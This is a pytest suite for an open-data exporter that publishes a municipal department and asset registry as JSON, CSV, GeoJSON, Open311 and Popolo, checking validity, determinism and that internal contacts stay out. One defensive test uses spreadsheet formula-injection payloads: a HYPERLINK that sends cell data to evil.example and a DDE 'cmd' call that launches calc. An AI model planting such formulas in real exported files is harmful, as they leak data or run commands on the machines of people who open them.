"""Open data exports: every file parses with a real consumer, nothing internal leaks, and the
same registry gives the same bytes."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml
from conftest import run_remit_bytes as remit

from generator.directory import Directory
from generator.load.registry import load
from generator.publish.export import (
    CSV_KINDS,
    FORMATS,
    all_exports,
    csv_tables,
    export_bytes,
    export_files,
)
from generator.publish.output_dir import read_marker
from generator.publish.workbook import split_list

ROOT = Path(__file__).resolve().parents[2]
EXAMPLE = ROOT / "directory"
TODAY = dt.date(2026, 6, 30)




@pytest.fixture(scope="module")
def d() -> Directory:
    reg, diags = load(EXAMPLE)
    assert not [x for x in diags if x.severity == "error"]
    return Directory(reg, today=TODAY)


@pytest.fixture(scope="module")
def files(d: Directory) -> dict[str, bytes]:
    return all_exports(d)


def _schema(files: dict[str, bytes]) -> dict[str, Any]:
    return json.loads(files["remit.schema.json"])


def _validator(schema: dict[str, Any]) -> jsonschema.Draft202012Validator:
    jsonschema.Draft202012Validator.check_schema(schema)
    return jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker())


# --- JSON and the schema -------------------------------------------------------------------


def test_every_format_has_files(files: dict[str, bytes]) -> None:
    assert set(FORMATS) == {"json", "csv", "geojson", "schema", "open311", "popolo"}
    assert {"registry.json", "assets.geojson", "remit.schema.json", "open311/services.json",
            "popolo.json"} <= set(files)
    assert {f"csv/{k}.csv" for k in CSV_KINDS} <= set(files)


def test_example_yaml_files_validate_against_the_exported_schema(
        files: dict[str, bytes]) -> None:
    validator = _validator(_schema(files))
    checked = 0
    for path in sorted(EXAMPLE.glob("*.yaml")):
        doc = yaml.safe_load(path.read_text(encoding="utf-8"))
        as_json = json.loads(json.dumps(doc, default=str))  # dates as strings
        errors = sorted(validator.iter_errors(as_json), key=lambda e: list(e.path))
        assert not errors, f"{path.name}: {errors[0].message} at {list(errors[0].path)}"
        checked += 1
    assert checked >= 3


def test_registry_json_is_a_valid_registry(files: dict[str, bytes], d: Directory) -> None:
    doc = json.loads(files["registry.json"])
    _validator(_schema(files)).validate(doc)
    r = d.registry
    assert [x["id"] for x in doc["departments"]] == sorted(x.id for x in r.departments)
    assert len(doc["assets"]) == len(r.assets)  # lamps from lamps.csv are expanded
    assert "asset_sources" not in doc
    lamp = next(a for a in doc["assets"] if a["id"] == "lamp-bs1-001")
    assert lamp["type"] == "street-lamp" and lamp["geometry"]["type"] == "Point"
    d3 = next(a for a in doc["assets"] if a["id"] == "road-d3")
    # the registry as written: road D3 has handovers (a list), road B2 one handover
    assert "handover" not in d3
    assert [(h["duties"], h["status"], h["since"]) for h in d3["handovers"]] == [
        (["maintenance", "cleaning"], "accepted", "2025-10-28"),
        (["lighting", "energy-bill"], "in-progress", "2024-01-10")]
    assert d3["handovers"][1]["from"] == "construction-investment"
    assert next(a for a in doc["assets"] if a["id"] == "road-b2")["handover"]["status"] == \
        "disputed"
    assert d3["duties"]["lighting"] == {"by": ["construction-investment"]}
    std = next(p for p in doc["escalation"] if p["id"] == "standard")
    assert [lv["after"] for lv in std["levels"]] == ["0d", "5 working days", "15 working days"]
    assert isinstance(std["levels"][0]["who"], list)


def test_schema_export_is_remit_schema(files: dict[str, bytes]) -> None:
    r = remit("schema")
    assert r.returncode == 0
    assert files["remit.schema.json"] == r.stdout


def test_internal_contacts_are_in_no_export(d: Directory, files: dict[str, bytes]) -> None:
    secrets = set()
    for dep in d.registry.departments:
        for c in dep.contacts:
            if c.visibility == "internal":
                secrets |= {x for x in (c.phone, c.email, c.role) if x}
    assert secrets, "the example registry should have internal contacts to hide"
    for path, data in files.items():
        text = data.decode("utf-8-sig")
        for s in secrets:
            assert s not in text, f"internal contact {s!r} leaked into {path}"
    for f in export_files(d):
        text = f.content if isinstance(f.content, str) else f.content.decode("utf-8-sig")
        assert not any(s in text for s in secrets), f.path


# --- CSV -----------------------------------------------------------------------------------


def _read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_tables_parse(files: dict[str, bytes], d: Directory) -> None:
    tables = csv_tables(d)
    for kind in CSV_KINDS:
        data = files[f"csv/{kind}.csv"]
        rows = _read_csv(data)
        header, expected = tables[kind]
        if rows:
            assert list(rows[0]) == header, kind
        assert len(rows) == len(expected), kind
    deps = _read_csv(files["csv/departments.csv"])
    assert len(deps) == len(d.registry.departments)
    sc = next(r for r in deps if r["id"] == "service-centre")
    # Lists in one cell, one line: joined by the full-width semicolon.
    assert sc["aliases"] == "；".join(d.departments["service-centre"].aliases)
    assert split_list(sc["aliases"]) == list(d.departments["service-centre"].aliases)
    # Names beside ids, in the registry's language.
    assert (sc["parent"], sc["parent_name"]) == ("zone-committee", "明湖综合保税区管理委员会")
    assert (sc["kind"], sc["kind_name"]) == ("service-centre", "服务中心")
    contacts = _read_csv(files["csv/contacts.csv"])
    assert "visibility" not in contacts[0]
    assert {r["department"] for r in contacts} <= set(d.departments)
    # number: the position in the department's list (the internal duty line, number 3 of
    # the service centre, is not there).
    sc_rows = [(r["number"], r["role"]) for r in contacts if r["department"] == "service-centre"]
    assert sc_rows == [("1", "诉求受理"), ("2", "企业服务专员（重点企业）"),
                       ("4", "水电气紧急报修热线")]
    levels = _read_csv(files["csv/escalation.csv"])
    std = [r for r in levels if r["path"] == "standard"]
    assert [r["level"] for r in std] == ["1", "2", "3"]
    assert split_list(std[2]["who"])[0] == "economic-development-bureau"
    assert split_list(std[2]["who_name"])[0] == "经济发展局"
    duties = _read_csv(files["csv/duties.csv"])
    assert {"asset": "road-d3", "asset_name": "综保区 D3 路", "duty": "lighting",
            "duty_name": "照明", "by": "construction-investment",
            "by_name": "明湖新区建设投资有限公司", "split": "", "basis": ""} in duties
    hand = _read_csv(files["csv/handovers.csv"])
    # one row per handover, keyed by asset and number (its place in the asset's list)
    d3 = [r for r in hand if r["asset"] == "road-d3"]
    assert [(r["number"], r["duties"], r["status"], r["since"], r["due"]) for r in d3] == [
        ("1", "maintenance；cleaning", "accepted", "2025-10-28", ""),
        ("2", "lighting；energy-bill", "in-progress", "2024-01-10", "2025-06-30")]
    assert (d3[1]["asset_name"], d3[1]["status_name"], d3[1]["to"], d3[1]["to_name"]) == (
        "综保区 D3 路", "移交中", "municipal-roads", "市政管理处")
    assert list(hand[0])[:4] == ["asset", "asset_name", "number", "from"]
    assert [r["number"] for r in hand if r["asset"] == "road-b2"] == ["1"]
    assets = _read_csv(files["csv/assets.csv"])
    lamp = next(r for r in assets if r["id"] == "lamp-bs1-001")
    assert json.loads(lamp["geometry"])["type"] == "Point"


def _tiny_registry(tmp: Path, name: str) -> Path:
    tmp.mkdir(parents=True, exist_ok=True)
    (tmp / "departments.yaml").write_text(
        "site:\n  title: t\n  language: en\n"
        "departments:\n"
        f"  - id: roads\n    name: {json.dumps(name)}\n"
        "    contacts:\n"
        "      - role: desk\n        phone: \"+86 851 0000\"\n"
        "      - role: night\n        phone: \"0851-0000-0999\"\n        visibility: internal\n",
        encoding="utf-8")
    return tmp


@pytest.mark.parametrize("name", ['=HYPERLINK("http://x","y")',
                                  '-1+HYPERLINK("http://evil.example/?x="&A1,"x")',
                                  "+1+cmd|' /C calc'!A0", "\uff1dSUM(1,2)"])
def test_csv_neutralises_spreadsheet_formulas(tmp_path: Path, name: str) -> None:
    reg, diags = load(_tiny_registry(tmp_path / "r", name))
    assert not [x for x in diags if x.severity == "error"], diags
    files = export_bytes(Directory(reg), "csv")
    deps = _read_csv(files["csv/departments.csv"])
    assert deps[0]["name"] == "'" + name
    contacts = _read_csv(files["csv/contacts.csv"])
    assert contacts[0]["department_name"] == "'" + name
    # A phone starting with "+" is text too (Excel would read "+86-851-0000" as arithmetic);
    # dropping the one leading apostrophe gives it back exactly.
    assert [c["phone"] for c in contacts] == ["'+86 851 0000"]
    # JSON keeps the text exactly: it is data there, not a formula.
    doc = json.loads(export_bytes(Directory(reg), "json")["registry.json"])
    assert doc["departments"][0]["name"] == name


# --- GeoJSON -------------------------------------------------------------------------------

_DEPTH = {"Point": 1, "MultiPoint": 2, "LineString": 2, "MultiLineString": 3, "Polygon": 3,
          "MultiPolygon": 4}


def _positions(coords: Any, depth: int) -> list[list[float]]:
    if depth == 1:
        return [coords]
    assert isinstance(coords, list) and coords
    return [p for c in coords for p in _positions(c, depth - 1)]


def test_geojson_is_a_valid_feature_collection(files: dict[str, bytes], d: Directory) -> None:
    doc = json.loads(files["assets.geojson"])
    assert doc["type"] == "FeatureCollection"
    assert "crs" not in doc  # RFC 7946: WGS84 only
    feats = doc["features"]
    assert len(feats) == sum(1 for a in d.registry.assets if a.geometry)
    ids = [f["id"] for f in feats]
    assert ids == sorted(ids) and len(set(ids)) == len(ids)
    for f in feats:
        assert f["type"] == "Feature"
        g = f["geometry"]
        assert g["type"] in _DEPTH
        for pos in _positions(g["coordinates"], _DEPTH[g["type"]]):
            assert 2 <= len(pos) <= 3
            lon, lat = pos[0], pos[1]
            assert -180 <= lon <= 180 and -90 <= lat <= 90
        if g["type"] == "LineString":
            assert len(g["coordinates"]) >= 2
        assert isinstance(f["properties"], dict) and f["properties"]["id"] == f["id"]
    lamp = next(f for f in feats if f["id"] == "lamp-bs1-001")
    # a lamp has no lighting duty of its own: the effective holder comes from its circuit
    circuit = d.assets[d.assets["lamp-bs1-001"].part_of or ""]
    held = d.effective_duties(d.assets["lamp-bs1-001"])
    assert lamp["properties"]["part_of"] == circuit.id
    for duty, h in held.items():
        assert lamp["properties"][f"duty_{duty}"] == ";".join(h.holding.by)


# --- Open311 -------------------------------------------------------------------------------

_SERVICE_FIELDS = {"service_code", "service_name", "description", "metadata", "type",
                   "keywords", "group"}
_DATATYPES = {"string", "number", "datetime", "text", "singlevaluelist", "multivaluelist"}


def test_open311_services_follow_georeport_v2(files: dict[str, bytes], d: Directory) -> None:
    services = json.loads(files["open311/services.json"])
    assert isinstance(services, list)
    assert [s["service_code"] for s in services] == sorted(x.id for x in d.registry.matters)
    for s in services:
        assert set(s) == _SERVICE_FIELDS
        assert all(isinstance(s[k], str) for k in _SERVICE_FIELDS - {"metadata"})
        assert isinstance(s["metadata"], bool)
        assert s["type"] in {"realtime", "batch", "blackbox"}
        assert s["service_name"] and s["description"]
        assert "\n" not in s["keywords"]
        path = f"open311/services/{s['service_code']}.json"
        assert (path in files) == s["metadata"]
        if s["metadata"]:
            definition = json.loads(files[path])
            assert definition["service_code"] == s["service_code"]
            for attr in definition["attributes"]:
                assert set(attr) >= {"variable", "code", "datatype", "required",
                                     "datatype_description", "order", "description"}
                assert attr["datatype"] in _DATATYPES
                assert isinstance(attr["variable"], bool) and isinstance(attr["order"], int)
                assert all(set(v) == {"key", "name"} for v in attr["values"])
    light = next(s for s in services if s["service_code"] == "streetlight-out")
    assert light["metadata"] is True and "路灯" in light["keywords"].split(",")
    assert light["group"] == "基础设施"
    definition = json.loads(files["open311/services/streetlight-out.json"])
    keys = {v["key"] for v in definition["attributes"][0]["values"]}
    assert "road-d3" in keys and "slc-baoshui-1" in keys
    assert "lamp-bs1-001" not in keys  # single lamps are minor assets: named by id


# --- Popolo --------------------------------------------------------------------------------

# The parts of the Popolo organization schema (popoloproject.com/schemas/organization.json)
# this export uses, with its contact_detail and other_name shapes.
POPOLO_ORG = {
    "type": "object",
    "required": ["name"],
    "properties": {
        "id": {"type": ["string", "null"]},
        "name": {"type": ["string", "null"]},
        "classification": {"type": ["string", "null"]},
        "parent_id": {"type": ["string", "null"]},
        "description": {"type": ["string", "null"]},
        "other_names": {"type": "array", "items": {
            "type": "object", "required": ["name"],
            "properties": {"name": {"type": "string"}}}},
        "contact_details": {"type": "array", "items": {
            "type": "object", "required": ["type", "value"], "additionalProperties": False,
            "properties": {"label": {"type": "string"}, "type": {"type": "string"},
                           "value": {"type": "string"}, "note": {"type": "string"}}}},
        "links": {"type": "array", "items": {
            "type": "object", "required": ["url"],
            "properties": {"url": {"type": "string", "format": "uri"},
                           "note": {"type": "string"}}}},
    },
    "additionalProperties": False,
}


def test_popolo_organisations(files: dict[str, bytes], d: Directory) -> None:
    doc = json.loads(files["popolo.json"])
    orgs = doc["organizations"]
    schema = {"type": "object", "required": ["organizations"],
              "properties": {"organizations": {"type": "array", "items": POPOLO_ORG}}}
    jsonschema.Draft202012Validator(schema).validate(doc)
    ids = {o["id"] for o in orgs}
    assert ids == set(d.departments)
    assert all(o["parent_id"] in ids for o in orgs if "parent_id" in o)
    sc = next(o for o in orgs if o["id"] == "service-centre")
    voice = [c["value"] for c in sc["contact_details"] if c["type"] == "voice"]
    assert "0851-0000-0001" in voice and "0851-0000-0901" not in voice
    assert {c["type"] for o in orgs for c in o.get("contact_details", [])} <= {
        "voice", "email", "url", "address"}


# --- determinism, the site files and the CLI ----------------------------------------------


def test_two_exports_are_byte_identical(files: dict[str, bytes]) -> None:
    reg, _ = load(EXAMPLE)
    again = all_exports(Directory(reg, today=dt.date(2030, 1, 1)))  # the date plays no part
    assert again == files


def test_site_files_and_data_page(d: Directory, files: dict[str, bytes]) -> None:
    out = export_files(d)
    by_path = {f.path: f for f in out}
    assert by_path["data/index.md"].nav and by_path["data/index.md"].title == "开放数据"
    for path, data in files.items():
        f = by_path[f"data/{path}"]
        assert f.content == data and f.search is False
    page = str(by_path["data/index.md"].content)
    links = re.findall(r"\]\(([^)]+)\)", page)
    assert links and all(f"data/{x}" in by_path for x in links), links
    for kind in CSV_KINDS:
        assert f"csv/{kind}.csv" in page
    assert "`'+86 851 0000 0001`" in page and "`-3.5`" in page  # the spreadsheet rule
    assert export_files(d) == out


def test_cli_export_to_folder_and_stdout(tmp_path: Path, files: dict[str, bytes]) -> None:
    for run in ("a", "b"):
        r = remit("export", "--format", "all", "--out", str(tmp_path / run))
        assert r.returncode == 0, r.stderr
    written = {p.relative_to(tmp_path / "a").as_posix(): p.read_bytes()
               for p in (tmp_path / "a").rglob("*") if p.is_file()}
    marker = written.pop(".remit-output")  # what remit wrote, for the next export
    assert written == files
    assert sorted(read_marker(tmp_path / "a")["files"]) == sorted(files)  # type: ignore[index]
    again = {p.relative_to(tmp_path / "b").as_posix(): p.read_bytes()
             for p in (tmp_path / "b").rglob("*") if p.is_file()}
    assert again == written | {".remit-output": marker}
    r = remit("export", "--format", "json")
    assert r.returncode == 0 and r.stdout == files["registry.json"]
    r = remit("export", "--format", "csv", "--kind", "matters")
    assert r.returncode == 0 and r.stdout == files["csv/matters.csv"]
    r = remit("export", "--format", "open311")
    assert json.loads(r.stdout)[0]["service_code"]
    r = remit("export", "--format", "csv")
    assert r.returncode == 2 and b"--kind" in r.stderr
    r = remit("export", "--format", "popolo", "--out", str(tmp_path / "p"))
    assert r.returncode == 0 and (tmp_path / "p" / "popolo.json").is_file()


def test_cli_export_refuses_a_broken_registry(tmp_path: Path) -> None:
    bad = tmp_path / "bad"
    bad.mkdir()
    (bad / "departments.yaml").write_text("departments:\n  - id: X\n", encoding="utf-8")
    r = remit("export", str(bad), "--format", "json")
    assert r.returncode == 1 and r.stdout == b""
    assert b"error" in r.stderr
